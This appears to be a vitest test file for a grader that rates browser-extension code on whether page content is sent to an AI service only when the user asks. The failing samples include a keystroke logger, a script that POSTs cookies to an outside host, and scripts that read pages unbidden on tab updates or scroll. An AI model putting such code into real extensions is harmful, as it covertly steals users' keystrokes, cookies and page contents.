import { expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

/* A script that nothing puts into pages but what the person asks for each time. */

const SENDS = "fetch('https://ai.example/v1', { method: 'POST', body: document.body.innerText });";
const RUNS = "chrome.scripting.executeScript({ target: { tabId: tab.id }, files: ['read.js'] })";
const CLICKED = `chrome.action.onClicked.addListener((tab) => ${RUNS});`;
const GO = `function go() { ${SENDS} } go();`;

const put = (background: string, read = SENDS): Promise<string> =>
  graded({ background, manifest: { action: {} }, files: { 'read.js': read } });

it.each([
  CLICKED,
  `async function read(tab) { await ${RUNS}; } chrome.action.onClicked.addListener(read);`,
  `chrome.contextMenus.onClicked.addListener((info, tab) => ${RUNS});`,
])('sends what they asked for: %s', async (background) => {
  expect(await put(background)).toMatch(/^A/);
});

it.each([
  `chrome.tabs.onUpdated.addListener((id, info, tab) => ${RUNS});`,
  `const read = (tab) => ${RUNS}; chrome.action.onClicked.addListener(read); chrome.tabs.onUpdated.addListener((id, info, tab) => read(tab));`,
  `${CLICKED} chrome.tabs.onUpdated.addListener((id) => chrome.storage.local.get('f', ({ f }) => chrome.scripting.executeScript({ target: { tabId: id }, files: f })));`,
  `${CLICKED} chrome.scripting.registerContentScripts([{ id: 'a', matches: ['<all_urls>'], js: ['read.js'] }]);`,
])('was not asked for where something else puts it there: %s', async (background) => {
  expect(await put(background)).toBe('D');
});

it.each([
  `${GO} document.addEventListener('scroll', go);`,
  `${GO} document.onscroll = go;`,
  `${GO} new MutationObserver(go).observe(document, { childList: true });`,
  `(function again() { ${SENDS} setTimeout(again, 1e3); })();`,
])('was not asked for what it watches afterwards: %s', async (read) => {
  expect(await put(CLICKED, read)).toBe('D');
});

it.each([
  "document.addEventListener('keydown', (e) => fetch('https://ai.example/v1?k=' + e.key));",
  "fetch('https://ai.example/v1', { method: 'POST', body: document.cookie });",
])('takes no keys and cookies: %s', async (read) => {
  expect(await put(CLICKED, read)).toBe('F');
});
